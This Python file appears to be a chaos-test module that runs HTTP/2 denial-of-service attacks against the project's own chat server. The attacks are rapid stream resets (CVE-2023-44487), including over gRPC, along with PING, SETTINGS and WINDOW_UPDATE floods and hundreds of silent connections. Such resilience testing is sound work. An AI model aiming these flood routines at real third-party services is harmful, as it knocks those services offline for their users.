"""HTTP/2 floods: resets, control frames, connections that say nothing."""

import asyncio
import json
from collections.abc import Awaitable, Callable

from tests import http2
from tests.chaos.attack import Arena, ClientAttack
from tests.chaos.questions import chat
from tests.chaos.target import HOST

_METHOD = "/glimpse.v1.ChatService/StreamChatCompletion"
_FEW_AT_ONCE = 50


async def _resets(arena: Arena) -> None:
    """Rapid resets (CVE-2023-44487): streams that are cancelled as soon as they are open."""
    port = arena.target.http_port

    def begin(connection: http2.Connection) -> int:
        form, path = arena.anywhere(chat("Go on.", stream=True))
        body = json.dumps(form).encode()
        return connection.request(http2.rest_headers(path, port, len(body)), body)

    await _reset(arena, port, arena.times(60), begin)


async def _grpc_resets(arena: Arena) -> None:
    """Resets as above with gRPC's port, where a call is open before its message has come."""
    port = arena.target.grpc_port
    headers = http2.grpc_headers(_METHOD, port)
    await _reset(arena, port, arena.times(20), lambda connection: connection.request(headers, ends=False))


async def _reset(arena: Arena, port: int, count: int, begin: Callable[[http2.Connection], int]) -> None:
    """Begins streams on this many connections, and resets each at once."""

    async def one() -> None:
        async with http2.connect(port) as connection:
            for _ in range(400):
                connection.reset(begin(connection))
                arena.counts["resets"] += 1
            await connection.drain()
            await asyncio.sleep(0.2)
            _count(arena, connection)

    await _on_connections(arena, count, one)


async def _control_frames(arena: Arena) -> None:
    """Floods of PING, SETTINGS and WINDOW_UPDATE, to Envoy and to the server itself."""
    ports = (arena.target.http_port, arena.target.grpc_port)

    async def one() -> None:
        async with http2.connect(arena.rng.choice(ports)) as connection:
            frames: tuple[Callable[[], None], ...] = (
                connection.ping,
                connection.settings,
                lambda: connection.window_update(0, 1),
            )
            for _ in range(5000):
                arena.rng.choice(frames)()
                arena.counts["control frames"] += 1
                if arena.counts["control frames"] % 100 == 0:
                    await connection.drain()
            _count(arena, connection)

    await _on_connections(arena, arena.times(20), one)


async def _silence(arena: Arena) -> None:
    """Connections that are opened and say nothing, or the beginning of HTTP/2 and nothing more."""
    writers: list[asyncio.StreamWriter] = []
    try:
        for _ in range(arena.times(500)):
            port = arena.rng.choice((arena.target.http_port, arena.target.grpc_port))
            _, writer = await asyncio.open_connection(HOST, port)
            writers.append(writer)
            if arena.rng.random() < 0.5:
                writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
            arena.counts["connections"] += 1
        await asyncio.sleep(3)
    except OSError:
        arena.counts["connections refused"] += 1
    finally:
        for writer in writers:
            writer.transport.abort()


async def _on_connections(arena: Arena, count: int, one: Callable[[], Awaitable[None]]) -> None:
    slots = asyncio.Semaphore(_FEW_AT_ONCE)

    async def limited() -> None:
        async with slots:
            try:
                await one()
            except OSError:
                arena.counts["connections closed by the server"] += 1

    await asyncio.gather(*(limited() for _ in range(count)))


def _count(arena: Arena, connection: http2.Connection) -> None:
    arena.counts["GOAWAY"] += connection.received["GOAWAY"]


ATTACKS = [
    ClientAttack(name="rapid-resets", summary="60 HTTP/2 connections with 400 rapid resets each", run=_resets),
    ClientAttack(
        name="rapid-resets-grpc", summary="20 connections to gRPC's port with 400 rapid resets each", run=_grpc_resets
    ),
    ClientAttack(name="control-frames", summary="floods of PING, SETTINGS and WINDOW_UPDATE", run=_control_frames),
    ClientAttack(name="silent-connections", summary="500 connections that say nothing", run=_silence),
]
